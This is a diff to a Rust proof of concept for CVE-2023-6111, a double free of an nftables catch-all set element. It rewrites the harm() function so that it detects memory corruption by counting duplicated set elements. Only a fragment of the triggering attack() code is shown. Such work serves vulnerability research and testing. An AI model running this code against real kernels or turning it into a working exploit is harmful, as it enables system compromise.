@@ -1,7 +1,7 @@
 //! CVE-2023-6111: the element of a set that stands for all others is freed when its time is over,
 //! and stays on the set's list. The next change of the set frees it again.
 
-use std::{io, thread, time::Duration};
+use std::{collections::BTreeSet, io, thread, time::Duration};
 
 use crate::{attribute::Attributes, netlink::Batch, nft};
 
@@ -62,14 +62,17 @@ pub fn attack() -> io::Result<()> {
     (0..HEIRS).try_for_each(|n| change(add, OTHER, &[heir(n)]))
 }
 
-/// Says which elements have the user data of others.
+/// Says how many elements of the set are there twice: they are other ones that lost their memory.
 pub fn harm() -> io::Result<()> {
     let held = nft::held(TABLE, OTHER)?;
-    let own = (0..HEIRS).filter(|n| held.contains(&(vec![*n; 16], vec![*n; NOTE])));
-    match held.len().abs_diff(own.count()) {
-        0 => Err(io::Error::other("all elements have what they were given")),
+    let distinct: BTreeSet<_> = held.iter().collect();
+    match held.len() - distinct.len() {
+        0 => Err(io::Error::other("no two elements are the same")),
         shared => {
-            println!("{shared} of {} elements share their memory", held.len());
+            println!(
+                "{shared} of {} elements lost their memory to another",
+                held.len()
+            );
             Ok(())
         }
     }
